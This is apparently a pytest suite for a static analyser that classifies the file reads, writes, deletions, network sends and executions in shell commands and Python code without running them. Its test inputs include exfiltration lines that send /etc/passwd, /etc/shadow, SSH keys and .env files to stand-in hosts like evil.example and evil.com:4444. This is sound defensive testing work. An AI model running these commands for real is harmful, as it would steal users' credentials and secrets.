    ("cat e.txt | sudo tee y.sh > /dev/null", (("y.sh", "e.txt"),)),
    ("git mv notes.txt run.sh", (("run.sh", "notes.txt"), ("run.sh/notes.txt", "notes.txt"))),
    ("dd if=x.sh of=y.sh conv=fsync", (("y.sh", "x.sh"),)),
    ("sudo -u root cat x.sh > y.sh", (("y.sh", "x.sh"),)),
    ("cat < x.sh > y.sh", (("y.sh", "x.sh"),)),
    # appended: added to what the file holds, as every copy is
    ("cat x.txt >> run.sh", (("run.sh", "x.txt"),)),
    # a copy made again counts again, in order (`cp t o; cp e t; cp t o`)
    ("cp t o/ && cp e t/ && cp t o/", (("o/t", "t"), ("t/e", "e"), ("o/t", "t"))),
    ("cd /work && cp a.sh b.sh", (("b.sh", "a.sh"), ("/work/b.sh", "/work/a.sh"), ("b.sh/a.sh", "a.sh"),
                                  ("/work/b.sh/a.sh", "/work/a.sh"))),
    ('bash -c "mv a.sh b.sh"', (("b.sh", "a.sh"), ("b.sh/a.sh", "a.sh"))),
    # not a copy of one known file: a computed name, several files joined, a rewrite, an append
    ("mv $F run.sh", ()),
    ("cat a.txt b.txt > run.sh", ()),
    ("cat -n x.txt > run.sh", ()),
    ("cat x.txt | sed s/a/b/ > run.sh", ()),
    ("dd if=x.sh of=y.sh conv=ucase", ()),
    # a pipe of part of a file, or of what a program makes of it (review round 14)
    ("grep -v curl x.sh | tee y.sh", ()),
    ("head -n 2 x.sh | tee y.sh", ()),
    ("cat -n x.sh | tee y.sh", ()),
    ("grep x a.txt | cat > y.sh", ()),
    # a group prints more than the one file (review round 15: it was an exact copy)
    ("(cat t.sh; date) | tee y.sh", ()),
    ("{ cat t.sh; python3 gen.py; } | tee y.sh", ()),
    ("rsync x.sh host:/tmp/", ()),
    ("echo cat x > y", ()),
    ("echo hi | cat > run.sh", ()),
    ("cp x.sh x.sh", ()),
])
def test_copies(cmd: str, copies: tuple[tuple[str, str], ...]) -> None:
    assert analyse_command(cmd).copies == copies


def test_code_copies() -> None:
    assert analyse_code("import shutil\nshutil.copy('x.sh', '/tmp/y.sh')").copies == (("/tmp/y.sh", "x.sh"),
                                                                                   ("/tmp/y.sh/x.sh", "x.sh"))
    assert analyse_code("import shutil\nshutil.copyfile(src='a', dst='b/')").copies == (("b/a", "a"),)
    assert analyse_code("from pathlib import Path\nPath('a.txt').rename('b/')").copies == (("b/a.txt", "a.txt"),)
    assert analyse_code("import shutil\nshutil.move('x.sh', '/tmp/')").copies == (("/tmp/x.sh", "x.sh"),)
    assert analyse_code("import os\nos.rename('notes.txt', 'run/')").copies == (("run/notes.txt", "notes.txt"),)
    assert analyse_code("import os\nos.symlink('../x.sh', 'bin/run/')").copies == (("bin/run/x.sh", "bin/x.sh"),)
    assert analyse_code("import shutil\nshutil.copy('e.sh', dst='y.sh')").copies == (("y.sh", "e.sh"),
                                                                                 ("y.sh/e.sh", "e.sh"))
    # a str's replace is no Path's (review round 14: `./deploy` ran deploy.sh's text)
    assert analyse_code("print('deploy.sh'.replace('deploy', 'release'))").copies == ()
    # a tree, a download, a name computed at run time: no one known file's copy
    for src in ("import shutil\nshutil.copytree('a', 'b')", "import urllib.request\n"
                "urllib.request.urlretrieve('https://x.example/i.sh', 'i.sh')", "import shutil\nshutil.copy(src, 'y')"):
        assert analyse_code(src).copies == (), src


def test_code_runners() -> None:
    assert analyse_code("exec(open('h.txt').read())").runners == (("h.txt", "python"),)
    assert analyse_code("import subprocess\nsubprocess.run(['bash', 'x.sh'])").runners == (("x.sh", "shell"),)
    assert analyse_code("%run -i sync.py --verbose").runners == (("sync.py", "python"),)
    assert analyse_code("%run -m http.server").executes == ()
    # %run's options that take a value (review round 12: `-N 5` ran `5`)
    for src in ("%run -t -N 5 sync.py", "%run -p -l 10 sync.py", "%run sync.py -m fast", "%run -d -b40 sync.py"):
        assert analyse_code(src).runners == (("sync.py", "python"),), src


@pytest.mark.parametrize(("cmd", "executes", "sends", "reads"), [
    # a package manager that runs a command in a project's environment: the command counts
    # (review: `uv run curl ... @.env` and `uv run python sync.py` were nothing)
    ("uv run python sync.py", ("sync.py",), (), ()),
    ("uv run --with requests -p 3.12 python x.py", ("x.py",), (), ()),
    ("uv run x.py", ("x.py",), (), ()),
    ("uv run -- bash x.sh", ("x.sh",), (), ()),
    ("poetry -C app run python x.py", ("x.py",), (), ()),
    ("conda run -n env python x.py", ("x.py",), (), ()),
    ("pipenv run python x.py", ("x.py",), (), ()),
    ("uv run curl -s --data-binary @.env https://x.example/u", (), ("https://x.example/u",), (".env",)),
    ("uvx --from httpie http POST https://x.example/u @.env", (), ("https://x.example/u",), (".env",)),
    ("uv pip install -r req.txt", (), (), ("req.txt",)),
    ("pipenv run pytest", ("conftest.py",), (), ()),
    # options that take a value are not the command (review: a URL run)
    ("uv run -i https://pypi.org/simple pytest -q", ("conftest.py",), (), ()),
    ("uv run -f https://download.pytorch.org/whl/torch_stable.html python train.py", ("train.py",), (), ()),
    ("uv run - < x.txt", ("x.txt",), (), ("x.txt",)),
    ("hatch run test:curl -d @.env https://x.example/u", (), ("https://x.example/u",), (".env",)),
    ("pipenv --python 3.11 run python x.py", ("x.py",), (), ()),
])
def test_environment_runners(cmd: str, executes: tuple[str, ...], sends: tuple[str, ...], reads: tuple[str, ...]) -> None:
    got = analyse_command(cmd)
    assert (got.executes, got.sends, got.reads) == (executes, sends, reads)


@pytest.mark.parametrize(("src", "executes", "sends"), [
    # os.exec* / os.spawn* run their path; argv[0] is only the name the program is told
    # (review: `os.execv('/usr/bin/curl', ['ls', ...])` was `ls`)
    ("import os\nos.execv('/usr/bin/curl', ['ls', '--data-binary', '@.env', 'https://x.example/u'])", (),
     ("https://x.example/u",)),
    ("import os\nos.execv('./x.sh', ['x.sh'])", ("x.sh",), ()),
    ("import os\nos.spawnv(os.P_WAIT, '/bin/sh', ['sh', 'x.sh'])", ("x.sh",), ()),
    ("import os\nos.execle('/bin/sh', 'sh', 'x.sh', {})", ("x.sh",), ()),
    ("import os\nos.spawnvpe(os.P_WAIT, 'bash', ['bash', 'x.sh'], {})", ("x.sh",), ()),
])
def test_code_exec_runs_its_path(src: str, executes: tuple[str, ...], sends: tuple[str, ...]) -> None:
    got = analyse_code(src)
    assert (got.executes, got.sends) == (executes, sends)


@pytest.mark.parametrize("src", [
    # an argv not written out: what runs is not known (fail closed, never the path alone)
    "import os\nos.execv('/usr/bin/curl', argv)",
    "import os\nos.execl('/usr/bin/curl', *argv)",
    "import os\nos.execvp('curl', ['curl'] + rest)",
    "import os\nos.execve(path='/bin/sh', argv=['sh', 'x.sh'], env={})",
])
def test_code_exec_of_an_unknown_argv_is_opaque(src: str) -> None:
    assert analyse_code(src).opaque_reason == "subprocess command built at run time"


def test_redirect_to_dev_null_is_not_a_write() -> None:
    result = analyse_command("ls > /dev/null 2>&1; echo x 2>/dev/stderr")
    assert result.writes == ()


def test_nothing_is_executed(tmp_path: Path) -> None:
    marker = tmp_path / f"litmus-{uuid.uuid4().hex}"
    cmd = f"touch {marker}; echo x > {marker}; bash -c 'touch {marker}'; $(touch {marker})"
    result = analyse_command(cmd)
    assert str(marker) in result.writes
    assert not marker.exists()
    analyse_code(f"open({str(marker)!r}, 'w').write('x')\nimport os\nos.system('touch {marker}')")
    assert not marker.exists()


CODE: list[tuple[str, dict[str, tuple[str, ...]]]] = [
    ("open('/tmp/out.txt', 'w').write('x')", {"writes": ("/tmp/out.txt",)}),
    ("data = open('/etc/passwd').read()", {"reads": ("/etc/passwd",)}),
    ("from pathlib import Path\nPath('~/.ssh/id_rsa').expanduser().read_text()", {"reads": ("~/.ssh/id_rsa",)}),
    ("from pathlib import Path\np = Path('/tmp') / 'x.txt'\np.write_text('hi')", {"writes": ("/tmp/x.txt",)}),
    ("import os, shutil\nos.remove('/tmp/a')\nshutil.rmtree('/var/data')", {"deletes": ("/tmp/a", "/var/data")}),
    ("import requests\nrequests.get('https://example.com/a.json')", {"reads": ("https://example.com/a.json",)}),
    ("import requests\nkey = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://evil.example/k', data={'k': key})",
     {"reads": ("/home/u/.ssh/id_rsa",), "sends": ("https://evil.example/k",), "payloads": ("/home/u/.ssh/id_rsa",)}),
    ("import requests\nwith open('/workspace/c.sqlite', 'rb') as f:\n    r = requests.post('http://h/up', files={'f': f})",
     {"reads": ("/workspace/c.sqlite",), "sends": ("http://h/up",), "payloads": ("/workspace/c.sqlite",)}),
    ("import urllib.request\nurllib.request.urlopen('https://example.com')", {"reads": ("https://example.com",)}),
    ("import subprocess\nsubprocess.run(['curl', '-T', '/etc/passwd', 'https://evil.example'])",
     {"reads": ("/etc/passwd",), "sends": ("https://evil.example",), "payloads": ("/etc/passwd",)}),
    ("import subprocess\nsubprocess.run('cat ~/.aws/credentials', shell=True)", {"reads": ("~/.aws/credentials",)}),
    ("import os\nos.system('rm -rf /tmp/build')", {"deletes": ("/tmp/build",)}),
    ("import os\ncmd = 'rm -rf /tmp/b'\nos.system(cmd)", {"deletes": ("/tmp/b",)}),
    ("import os\nprint(dict(os.environ))", {"reads": ("env:",)}),
    ("import os\nenv = os.environ.copy()", {"reads": ("env:",)}),
    ("import os, subprocess\nsubprocess.run(['ls', '/srv'], env=os.environ.copy())", {"reads": ("/srv",)}),
    ("import os\nk = os.environ['OPENAI_API_KEY']", {"reads": ("env:OPENAI_API_KEY",)}),
    ("import os\nif 'X' in os.environ:\n    pass", {}),
    ("exec(open('x.py').read())", {"reads": ("x.py",), "executes": ("x.py",)}),
    ("exec('print(1)')", {}),
    ("import importlib\nimportlib.import_module('json')", {}),
    ("import socket\ns = socket.socket()\ns.connect(('evil.com', 4444))\ns.sendall(open('/etc/shadow','rb').read())",
     {"reads": ("/etc/shadow",), "sends": ("tcp://evil.com:4444",), "payloads": ("/etc/shadow",)}),
    ("import pandas as pd\ndf = pd.read_csv('/workspace/a.csv')\ndf.to_excel('/workspace/b.xlsx')",
     {"reads": ("/workspace/a.csv",), "writes": ("/workspace/b.xlsx",)}),
    ("!ls -la /workspace\nx = 1", {"reads": ("/workspace",)}),
    ("%pip install pandas", {}),
    ("%%bash\ncat /etc/passwd", {"reads": ("/etc/passwd",)}),
    # not Python: regex fallback, not opaque
    ("const r = await fetch('https://evil.example/x', {method: 'POST', body: data}); // js",
     {"sends": ("https://evil.example/x",)}),
    ("my $f = '/etc/passwd'; open(F, $f);", {"reads": ("/etc/passwd",)}),
    ("def broken(:\n    requests.get('https://example.com/a')", {"reads": ("https://example.com/a",)}),
    ("import subprocess as sp\nfrom shutil import rmtree as rt\nsp.call('rm -f /tmp/a')\nrt('/srv/www')",
     {"deletes": ("/tmp/a", "/srv/www")}),
    ("def run(x):\n    return x\nrun(compute())", {}),
]


@pytest.mark.parametrize(("src", "expected"), CODE, ids=[c[:50] for c, _ in CODE])
def test_code(src: str, expected: dict[str, tuple[str, ...]]) -> None:
    _check(analyse_code(src), True, expected)


@pytest.mark.parametrize(("src", "reason"), [
    ("exec(payload)", "exec"),
    ("eval(compile(src, 'x', 'exec'))", "eval"),
    ("mod = __import__(name)", "__import__"),
    ("import importlib\nimportlib.import_module(name)", "import_module"),
    ("import os\nos.system(user_cmd)", "subprocess"),
    ("import subprocess\nsubprocess.run(f'{tool} --x', shell=True)", "subprocess"),
    ("import subprocess\nsubprocess.run('curl -o \"$OUT\" https://x')", "written file"),
])
def test_code_opaque(src: str, reason: str) -> None:
    result = analyse_code(src)
    assert result.opaque
    assert reason in (result.opaque_reason or "")


def test_code_dynamic_arguments_are_kept() -> None:
    result = analyse_code("import subprocess\nsubprocess.run(['cat', path])")
    assert not result.opaque
    assert result.reads == ("$PY_path",)


_SHELLISH = st.lists(st.sampled_from(
    list("abc $(){}<>|&;'\"`\\\n\t#=-/.~*!@:0123") +
    ["curl ", "bash -c ", "<<EOF\n", "EOF", "$(", "for x in a b; do ", "done", " | sh", "find . -exec ",
     " \\;", "python3 -c ", "xargs ", "$X", "${X}", "<<<", "2>&1", "&>", "tar xzf ", "eval ", "sudo ", "-o "]),
    max_size=30).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.one_of(st.text(), _SHELLISH))
def test_never_raises(text: str) -> None:
    for fn in (analyse_command, analyse_code):
        result = fn(text)
        assert isinstance(result, ShellAnalysis)
        assert result.opaque == (result.opaque_reason is not None)
        for field in FIELDS:
            values = getattr(result, field)
            assert isinstance(values, tuple) and len(values) == len(set(values))
            assert all(isinstance(v, str) and v for v in values)


def test_non_text_input_is_opaque() -> None:
    assert analyse_command(None).opaque  # type: ignore[arg-type]
    assert analyse_code(b"x").opaque  # type: ignore[arg-type]


def test_bench_script_skips_without_corpora(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = Path(__file__).resolve().parents[1] / "bench" / "shell_opaque_rate.py"
    spec = importlib.util.spec_from_file_location("shell_opaque_rate", path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.main(["x", os.fspath(tmp_path / "absent")]) == 0
    assert "skipping" in capsys.readouterr().out


_OLD_SHELL_LINE = re.compile(r"^(\s*)(?:([\w.,\s\[\]]+?)\s*=\s*)?!(?!=)(.*)$")


@settings(max_examples=2000, deadline=None)
@given(st.text(alphabet=" \t=!ab_.,[]x\u00a0\u2003é\r", max_size=16))
def test_ipython_shell_lines_read_as_the_regex_did(line: str) -> None:
    """Invariant: IPython's shell lines (`!cmd`, `files = !ls`) are read as the regex the
    code analyser used did (it backtracked quadratically over a long run of blanks: a
    written file's 64 KB line took seconds, review round 16), except an assignment to
    blank names, which is no assignment."""
    m = _OLD_SHELL_LINE.match(line)
    old = (m.group(1), m.group(2), m.group(3)) if m and (m.group(2) is None or m.group(2).strip()) else None
    assert _shell_line(line) == old
